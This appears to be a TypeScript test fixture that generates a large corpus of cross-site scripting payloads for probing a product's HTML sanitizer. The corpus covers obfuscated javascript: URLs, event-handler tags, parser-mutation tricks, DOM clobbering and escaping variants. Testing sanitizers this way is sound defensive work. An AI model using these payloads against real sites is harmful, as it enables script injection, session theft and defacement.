/**
 * Markup that runs a script if a page lets it, written for this product. `RUN` is replaced by the call that reports it.
 * Families that multiply (spellings of a scheme × tags that follow it) are generated; the rest is written out.
 */
const run = 'RUN'

/** Spellings of `javascript:` that browsers accept and that filters have missed. */
const scriptUrls = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `javascript\r\n:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;vascript&colon;${run}`,
  `java&Tab;script&NewLine;:${run}`,
  `&#0000106avascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`,
]
const followers = [
  (url: string) => `<a href="${url}">далі</a>`,
  (url: string) => `<a href='${url}' target=_self>далі`,
  (url: string) => `<img usemap=#m><map name=m><area shape=default href="${url}"></map>`,
  (url: string) => `<form action="${url}"><button>далі</button></form>`,
  (url: string) => `<form><button formaction="${url}">далі</button></form>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object><embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}" href="${url}"><text y=20>далі</text></a></svg>`,
]

/** Markup that runs by itself once it is in a page. */
export const starters: readonly string[] = [
  `<script>${run}</script>`,
  `<script>${run}//`,
  `<SCRIPT/x>${run}</SCRIPT >`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}" /></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<img src=data:,x onerror=${run}>`,
  `<img src=data:,x onerror="${run}"//>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\t=\n${run}>`,
  `<img src=data:,x oNeRrOr=${run}>`,
  `<img src=\`x\` onerror=${run}>`,
  `<img src="x" alt="\`><script>${run}</script>" onerror=${run}>`,
  `<img srcset=x onerror=${run}>`,
  `<picture><source srcset=x><img onerror=${run}></picture>`,
  `<image src=data:,x onerror=${run}>`,
  `<video src=data:,x onerror=${run}></video>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=data:,x onerror=${run}></audio>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><g onload=${run}></g></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributeName=x to=1></svg>`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>далі</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></svg>`,
  `<svg><foreignObject><img src=data:,x onerror=${run}></foreignObject></svg>`,
  `<svg><style>@import 'x'</style><image href=x onerror=${run}></svg>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<frameset onload=${run}>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe srcdoc="<img src=data:,x onerror=${run}>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<object onerror=${run} data=x></object>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<link rel=preload as=script href=x onerror=${run}>`,
  `<style onload=${run}></style>`,
  `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${run}>текст</p>`,
  `<p style="transition:color 1s" ontransitionrun=${run}>текст</p>`,
  `<details open ontoggle=${run}><summary>текст</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<button autofocus onfocus=${run}>далі</button>`,
  `<a href=x autofocus onfocus=${run}>далі</a>`,
  `<p tabindex=1 autofocus onfocus=${run}>текст</p>`,
  `<p contenteditable autofocus onfocus=${run}>текст</p>`,
  `<marquee onstart=${run}>текст</marquee>`,
  `<marquee loop=1 width=0 onfinish=${run}>текст</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//"><a href=#>далі</a>`,
  `<div onclick=${run} onpointerover=${run} oncontextmenu=${run}>текст</div>`,
  `<p onscrollend=${run} onbeforematch=${run} hidden=until-found>текст</p>`,
  `<dialog open oncancel=${run}><form method=dialog><button onclick=${run}>далі</button></form></dialog>`,
  `<button popovertarget=p>далі</button><p popover id=p onbeforetoggle=${run}>текст</p>`,
  `<x-y is=z onfocus=${run} tabindex=0 autofocus>текст</x-y>`,
  `<xss onload=${run}><xss onerror=${run}>`,
]

/** Markup that one parser reads as text or attribute and the next one as a tag: namespaces, raw text, repairs of the tree. */
const mutants = [
  `<math><mtext><table><mglyph><style><img src=data:,x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math><mi><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=data:,x onerror=${run}&gt;"></style></table></mi></math>`,
  `<svg></p><style><a title="</style><img src=data:,x onerror=${run}>">`,
  `<svg><p><style><!--</style><img title="--><img src=data:,x onerror=${run}>">`,
  `<math></br><style><!--</style><img title="--&gt;&lt;img src=data:,x onerror=${run}&gt;">`,
  `<svg><desc><template><style><b title="</style><img src=data:,x onerror=${run}>"></style></template></desc></svg>`,
  `<svg><title><style><img src="</style><img src=data:,x onerror=${run}>"></title></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src="</style><img src=data:,x onerror=${run}>"></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=data:,x onerror=${run}>`,
  `<form id=a><div></form><form><math><mtext><style><path id="</style><img src=data:,x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=data:,x onerror=${run}>"></noscript>`,
  `<noscript><style></noscript><img src=data:,x onerror=${run}></style></noscript>`,
  `<noembed><img title="</noembed><img src=data:,x onerror=${run}>"></noembed>`,
  `<noframes><p title="</noframes><img src=data:,x onerror=${run}>"></noframes>`,
  `<xmp><p title="</xmp><img src=data:,x onerror=${run}>"></xmp>`,
  `<textarea><p title="</textarea><img src=data:,x onerror=${run}>"></textarea>`,
  `<title><p title="</title><img src=data:,x onerror=${run}>"></title>`,
  `<iframe><p title="</iframe><img src=data:,x onerror=${run}>"></iframe>`,
  `<style><p title="</style><img src=data:,x onerror=${run}>"></style>`,
  `<template><style></template><img src=data:,x onerror=${run}></style></template>`,
  `<template><img src=data:,x onerror=${run}></template>`,
  `<div><template shadowrootmode=open><img src=data:,x onerror=${run}><script>${run}</script></template></div>`,
  `<!--><img src=data:,x onerror=${run}>-->`,
  `<!---><img src=data:,x onerror=${run}>-->`,
  `<!-- --!><img src=data:,x onerror=${run}> -->`,
  `<!-- <p title="--><img src=data:,x onerror=${run}>"> -->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=data:,x onerror=${run}>]]>`,
  `<svg><![CDATA[><img src=data:,x onerror=${run}>]]></svg>`,
  `<math><![CDATA[</math><img src=data:,x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=data:,x onerror=${run}>`,
  `<?php <img src=data:,x onerror=${run}> ?>`,
  `</p title="><img src=data:,x onerror=${run}>">`,
  `<p title='"><img src=data:,x onerror=${run}>'>текст</p>`,
  `<p title="&quot;&gt;&lt;img src=data:,x onerror=${run}&gt;">текст</p>`,
  `<p title="\`><img src=data:,x onerror=${run}>">текст</p>`,
  `<a title="</a><img src=data:,x onerror=${run}>" href="x<img src=data:,x onerror=${run}>">далі</a>`,
  `<<img src=data:,x onerror=${run}>`,
  `<img src=data:,x onerror=${run}`,
  `<img src=x\u0000 onerror=${run}>`,
  `<im\u0000g src=data:,x onerror=${run}>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<scr\u00adipt>${run}</script><img src=data:,x onerror=${run}>`,
  `\ufeff<img src=data:,x onerror=${run}>`,
  `<table><img src=data:,x onerror=${run}><tr><td><svg onload=${run}></table>`,
  `<table><caption><svg><style></caption><img src=data:,x onerror=${run}>`,
  `<select><option><style><img src=data:,x onerror=${run}></style></select><img src=data:,x onerror=${run}>`,
  `<select><template><img src=data:,x onerror=${run}></template></select>`,
  `<ul><li><svg><p></svg></p><img src=data:,x onerror=${run}></ul>`,
  `<a><a href="javascript:${run}">далі</a></a>`,
  `<b><p><i></b><img src=data:,x onerror=${run}></i></p>`,
  `${'<div>'.repeat(300)}<svg><style><img src=data:,x onerror=${run}></style></svg>${'</div>'.repeat(300)}`,
  `${'<b>'.repeat(600)}<img src=data:,x onerror=${run}>`,
  `<svg><font color=x><style><!--</style><img src=data:,x onerror=${run}>--></style>`,
  `<math><font face=x></font><style><img src=data:,x onerror=${run}></style>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=data:,x onerror=${run}>">`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src=data:,x onerror=${run}></semantics></math>`,
  `<plaintext><img src=data:,x onerror=${run}>`,
]

/** DOM clobbering: names that replace properties which a script of the page reads from its document. */
const clobberers = [
  `<form><input name=attributes><img src=data:,x onerror=${run}></form>`,
  `<form onmouseover=${run}><input name=removeAttribute><input name=attributes></form>`,
  `<form id=x><input name=parentNode><input name=nodeName><img src=data:,x onerror=${run}></form>`,
  `<form><input name=textContent><input name=childNodes><svg onload=${run}></form>`,
  `<img name=cookie><img name=body><img name=getElementById>`,
  `<a id=trustedTypes><a id=trustedTypes name=createPolicy href="javascript:${run}">далі</a>`,
  `<form id=document><input name=createElement value=x></form>`,
  `<iframe name=localStorage></iframe><img id=localStorage name=getItem>`,
  `<a id=root></a><div id=main>текст</div><p id=__proto__>текст</p>`,
  `<object id=navigator><img src=data:,x onerror=${run}></object>`,
]

export const vectors: readonly string[] = [
  ...followers.flatMap((follow) => scriptUrls.map(follow)),
  ...starters,
  ...mutants,
  ...clobberers,
]

const escapeOnce = (html: string) =>
  html.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')

/** The ways in which a server's editor may have stored markup. */
export const encodings: Readonly<Record<string, (html: string) => string>> = {
  plain: (html) => html,
  'escaped once': escapeOnce,
  'escaped twice': (html) => escapeOnce(escapeOnce(html)),
  'by numbers': (html) =>
    html.replace(/[<>&"'=:/]/g, (sign, at: number) => {
      const code = sign.charCodeAt(0)
      return at % 2 === 0 ? `&#${code};` : `&#x${code.toString(16).padStart(4, '0')};`
    }),
}

/** Closes what a vector may have left open, so that the next vector in the same text is parsed as intended. */
export const closers =
  '--></script></style></title></textarea></noscript></noembed></noframes></xmp></iframe></template></select></table></svg></math></form>'
